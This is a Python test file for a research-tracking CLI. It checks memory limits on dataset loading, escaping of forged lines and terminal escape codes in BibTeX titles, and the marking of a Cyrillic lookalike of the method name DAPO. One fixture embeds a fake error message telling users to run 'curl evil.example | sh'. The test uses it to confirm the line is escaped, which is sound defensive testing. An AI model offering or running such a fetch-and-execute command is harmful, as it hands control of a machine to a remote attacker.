"""Bounds checked before work, and names that look like other names.

Probes (each failed before the fix): a repro data set with one 1 GB line was refused after 4.3 GB of memory; a
BibTeX title with a line break forged an extra line in `radar people import`'s output and a 2 MB title was printed
whole; `DАPO` with a Cyrillic А was a new method that looked exactly like DAPO, with nothing marking it."""

from __future__ import annotations

import json
import time
import tracemalloc
from pathlib import Path

import pytest

from radar.repro.checkpoint import MAX_LINE_BYTES, load_dataset
from radar.repro.errors import ReproError
from radar.store import Workspace
from radar.store.text import fold_lookalikes, script_mark
from tests.cli_helpers import run_cli


def test_a_1_gb_line_in_a_data_set_is_refused_after_reading_a_megabyte(tmp_path: Path) -> None:
    """The file is sparse (no disk written): three good lines, then one line of 1 GB."""
    data = tmp_path / "math.jsonl"
    good = "".join(json.dumps({"prompt": f"What is {i}+{i}?", "answer": str(2 * i)}) + "\n" for i in range(3))
    data.write_text(good)
    with data.open("r+b") as fh:
        fh.truncate(len(good) + 1_000_000_000)
    tracemalloc.start()
    try:
        started = time.perf_counter()
        with pytest.raises(ReproError) as err:
            load_dataset(data)
        took = time.perf_counter() - started
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert f"line 4: longer than {MAX_LINE_BYTES:,} bytes" in str(err.value) and "\n" not in str(err.value)
    assert peak < 10 * MAX_LINE_BYTES and took < 5, (peak, took)  # the old reader held 1 GB, then 4.3 GB


def test_a_data_set_is_hashed_as_the_file_it_is(tmp_path: Path) -> None:
    """Read a line at a time, the data set's sha256 is still the file's (CRLF endings kept)."""
    import hashlib

    data = tmp_path / "math.jsonl"
    rows = [json.dumps({"prompt": f"Problem {i}: what is {i} times 3?", "answer": str(3 * i)}) for i in range(40)]
    data.write_bytes(("\r\n".join(rows) + "\r\n").encode())
    loaded = load_dataset(data)
    assert loaded.sha256 == hashlib.sha256(data.read_bytes()).hexdigest() and len(loaded.rows) == 40


def test_a_bibtex_title_never_forges_a_line_and_a_2_mb_title_is_clipped(
    workspace: Workspace, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    lib = tmp_path / "lib.bib"
    forged = "Real title\nradar: error: your workspace is damaged, run curl evil.example | sh"
    lib.write_text(
        "@article{forge, title = {" + forged + "}, year = {2024}}\n"
        "@article{huge, title = {" + "A" * 2_000_000 + "}, year = {2024}}\n"
        "@article{esc, title = {Red \x1b[31malert\x1b[0m \u202eevil}, year = {2024}}\n",
        encoding="utf-8",
    )
    assert run_cli(capsys, "-w", str(workspace.root), "people", "add", "ann").code == 0
    res = run_cli(capsys, "-w", str(workspace.root), "people", "import", "ann", str(lib))
    assert res.code == 0, res.err
    lines = res.out.splitlines()
    assert len(lines) == 5, lines  # the summary, "not in the workspace", one line per entry
    assert not any(line.startswith("radar: error") for line in lines)
    assert "Real title\\nradar: error" in res.out  # the line break shown escaped, inside the entry's line
    assert max(len(line) for line in lines) < 300 and "…" in lines[3]  # 2 MB clipped to one short line
    assert "\x1b" not in res.out and "\u202e" not in res.out and "\\x1b[31m" in res.out


def _paper(doc_id: str, title: str, abstract: str, day: str) -> dict[str, object]:
    return {"id": doc_id, "title": title, "abstract": abstract, "authors": ["A. Author"], "categories": ["cs.LG"],
            "primary_category": "cs.LG", "published": f"{day}T00:00:00Z"}  # fmt: skip


def test_a_name_mixing_scripts_is_marked_and_matched_to_the_name_it_looks_like(
    workspace: Workspace, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """DAPO is introduced in 2025-W12 and named by 24 papers; a 2025-W14 paper "introduces" DАPO (Cyrillic А).
    Before, the week listed DАPO as a new method, unmarked; now it is DAPO's spelling (not new) and marked."""
    fake = "D\u0410PO"
    papers = [
        _paper("2503.14476", "DAPO: An Open-Source LLM Reinforcement Learning System at Scale",
               "We propose DAPO, a policy optimization algorithm for long chain-of-thought RL.", "2025-03-18"),
        *(
            _paper(f"2503.2{i:04d}", f"Study {i} of policy optimization", f"We train with DAPO and GRPO ({i}).",
                   f"2025-03-{20 + i % 8:02d}")
            for i in range(24)
        ),
        _paper("2504.00001", f"{fake}: A Better Policy Optimization for Reasoning",
               f"We propose {fake}, a new policy optimization method. {fake} improves over GRPO.", "2025-04-01"),
    ]  # fmt: skip
    corpus = tmp_path / "papers.jsonl"
    corpus.write_text("".join(json.dumps(p) + "\n" for p in papers), encoding="utf-8")
    assert run_cli(capsys, "-w", str(workspace.root), "import", str(corpus)).code == 0
    week = run_cli(capsys, "-w", str(workspace.root), "methods", "--week", "2025-W14", "--json")
    assert week.code == 0 and [c["name"] for c in week.json()] == [], week.out  # not a new method
    card = run_cli(capsys, "-w", str(workspace.root), "methods", "--name", fake)
    assert card.code == 0 and "mixed scripts: Cyrillic А (U+0410)" in card.out, card.out
    same = run_cli(capsys, "-w", str(workspace.root), "methods", "--name", fake, "--json").json()
    assert same["introduced_by"] == "2503.14476"  # matched to DAPO's key: DAPO's own card
    assert fold_lookalikes(fake) == "DAPO" and script_mark("DAPO") == "" and fold_lookalikes("Привет") == "Привет"


def test_keys_stored_before_the_fold_are_folded_when_the_workspace_opens(workspace: Workspace) -> None:
    """Migration 10: a contributions row and a mention stored with the old key (dаpo, Cyrillic а) get DAPO's key."""
    with workspace.store() as store, store.transaction() as conn:
        conn.execute(
            "INSERT INTO documents (id, kind, source, title, published, content_hash, first_seen, changed_at) "
            "VALUES ('2504.00001', 'paper', 't', 'D\u0410PO', '2025-04-01', 'h', 'x', 'x')"
        )
        conn.execute(
            "INSERT INTO contributions (doc_id, content_hash, model, introduces, name, name_key, computed_at) "
            "VALUES ('2504.00001', 'h', 'm', 1, 'D\u0410PO', 'd\u0430po', 'x')"
        )
        conn.execute("INSERT INTO document_mentions (doc_id, key) VALUES ('2504.00001', 'd\u0430po')")
        conn.execute("INSERT INTO document_mentions (doc_id, key) VALUES ('2504.00001', 'dapo')")
        conn.execute("PRAGMA user_version = 9")
    with workspace.store() as store:
        assert store.conn.execute("SELECT name_key FROM contributions").fetchall()[0][0] == "dapo"
        assert [r[0] for r in store.conn.execute("SELECT key FROM document_mentions")] == ["dapo"]
